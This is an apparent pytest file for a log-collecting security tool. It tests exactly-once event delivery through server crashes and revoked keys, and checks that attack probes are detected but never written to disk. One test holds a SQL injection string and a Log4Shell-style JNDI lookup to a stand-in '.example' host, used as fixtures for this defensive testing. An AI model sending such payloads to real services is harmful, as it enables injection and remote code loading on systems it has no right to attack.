"""From a client into a real tocsin's vault: everything, once, whatever happens to the server."""

from __future__ import annotations

import gzip
import os
import signal
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from tests.sdk.receiving import MakeClient, event, numbers
from tests.sdk.requests import seen
from tests.siem.conftest import Tocsin
from tests.siem.stored import everything

from tocsin.event import Kind
from tocsin.sdk.options import Options
from tocsin.sdk.reading.reader import Reader

#: How often the server ends in the midst of a delivery, every other time by force.
LIVES = 10 if os.environ.get("TOCSIN_FAULTS") == "long" else 2


class Server(Tocsin):
    """A tocsin that comes back at the same address."""

    def start(self, *arguments: str, **environ: str) -> Tocsin:
        if not self.port:
            with socket.socket() as probe:
                probe.bind(("127.0.0.1", 0))
                self.port = probe.getsockname()[1]
        listen = ["--listen", f"127.0.0.1:{self.port}", *arguments]
        command = [sys.executable, "-m", "tocsin", "up", "--data", str(self.data), *listen]
        with self.log.open("ab") as log:
            self.process = subprocess.Popen(
                command, stdout=log, stderr=log, env=self.environ | environ, cwd=self.home
            )
        self.until(self._answers, 30)
        return self

    def events(self) -> list[dict[str, Any]]:
        return self.rows("search", "service:orders", "--limit", "0")


@pytest.fixture
def server(tmp_path: Path) -> Iterator[Server]:
    made = Server(tmp_path)
    made.start()
    yield made
    made.stop()


def test_everything_is_in_the_vault_once_though_the_server_is_killed_in_mid_batch(
    server: Server, client: MakeClient
) -> None:
    key = server.token("orders-app")
    made = client(url=f"http://127.0.0.1:{server.port}", key=key, batch_events=25, timeout=20.0)
    count = 0
    for life in range(LIVES):
        for _ in range(400):
            made.take(event(count))
            count += 1
            if count % 20 == 0:
                time.sleep(0.002)
        assert made._life._mail is not None
        server.stop(signal.SIGTERM if life % 2 else signal.SIGKILL)
        for _ in range(50):
            made.take(event(count))
            count += 1
        server.start()
    made.take(event(count, status="two hundred", kind=Kind.REQUEST))
    assert made.flush(30)
    # What waits on the disk is delivered as well, while the client lives.
    server.until(lambda: len(server.events()) > count, 120)
    made.close()
    found = server.until(lambda: server.events())
    assert sorted(numbers(found)) == list(range(count + 1))
    sequence = sorted(one["source_seq"] for one in found)
    assert sequence == list(range(1, count + 4))
    assert {one["boot"] for one in found} == {made.boot}
    assert {one["source"] for one in found} == {"orders-app"}
    assert {one["layer"] for one in found} == {"app"}
    assert not [one for one in found if "probe_body" in one.get("attributes", {})]
    # One value that is not what its column holds costs nobody the event.
    (odd,) = [one for one in found if "parse_error" in one]
    assert odd["attributes"]["status"] == "two hundred"
    assert odd["kind"] == "request"


def test_a_revoked_key_keeps_everything_until_there_is_a_good_one(
    server: Server, client: MakeClient
) -> None:
    made = client(url=f"http://127.0.0.1:{server.port}", key="tocsin_no_such_key", farewell=0.5)
    for n in range(30):
        made.take(event(n))
    assert made._life._mail is not None
    server.until(lambda: made._life._mail and made._life._mail.shipper.failed > 1)
    made.close()
    assert server.events() == []
    key = server.token("orders-app")
    heir = client(url=f"http://127.0.0.1:{server.port}", key=key)
    heir.start()
    server.until(lambda: sorted(numbers(server.events())) == list(range(30)))


def test_no_probe_is_found_on_any_disk(server: Server, client: MakeClient, spool: Path) -> None:
    marker = "zebrafinch"
    attack = {"note": f"{marker}' OR '1'='1"}
    header = {"x-api-version": f"${{jndi:ldap://{marker}.example/a}}"}

    def attacked() -> None:
        for n in range(50):
            made.take(seen(f"POST /v1/notes/{n}", 200, {"ok": True}, body=attack, headers=header))

    def making() -> Any:
        address = f"http://127.0.0.1:{server.port}"
        return client(Reader(Options(hash_key="x")), url=address, key=key, farewell=0.5)

    key = server.token("orders-app")
    made = making()
    attacked()
    assert made.flush(20)
    server.stop()
    attacked()  # with nobody there to take it: it waits on the disk
    made.close()
    waiting = [path.read_bytes() for path in spool.rglob("*") if path.is_file()]
    opened = b"".join(gzip.decompress(one) for one in waiting if one[:2] == b"\x1f\x8b")
    assert opened.count(b"/v1/notes/") >= 50
    assert marker.encode() not in opened + b"".join(waiting)

    server.start()
    heir = making()
    heir.start()
    found = server.until(
        lambda: (rows := server.rows("search", "kind:request", "--limit", "0"))[99:] and rows
    )
    # It was looked at where it got there, and only there.
    tags = [" ".join(one.get("tags", [])) for one in found]
    assert sum("sig.sqli.body" in one and "sig.jndi.header" in one for one in tags) >= 50
    heir.close()
    server.stop()
    kept = everything(server)
    assert kept.count("/v1/notes/49") == 4  # twice, as path and as route
    assert marker not in kept
    raw = [path.read_bytes() for path in server.home.rglob("*") if path.is_file()]
    assert marker.encode() not in b"".join(raw)
